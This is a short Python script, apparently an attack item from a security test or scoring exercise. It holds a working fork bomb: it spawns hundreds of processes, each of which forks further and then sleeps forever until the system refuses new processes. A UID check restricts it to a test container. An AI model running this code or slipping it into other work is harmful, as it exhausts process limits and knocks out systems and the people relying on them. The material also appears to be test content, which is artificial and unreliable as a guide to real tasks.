"""Fork until the system refuses, in children of children too, and let them all stay.

alone: 0 points
glued: 20 points
"""

import os

assert os.getuid() >= 64000, "an attack runs in a container of ours only"

import time

for _ in range(500):
    try:
        if not os.fork():
            try:
                for _ in range(10):
                    os.fork()
            except OSError:
                pass
            while True:
                time.sleep(60)
    except OSError:
        break
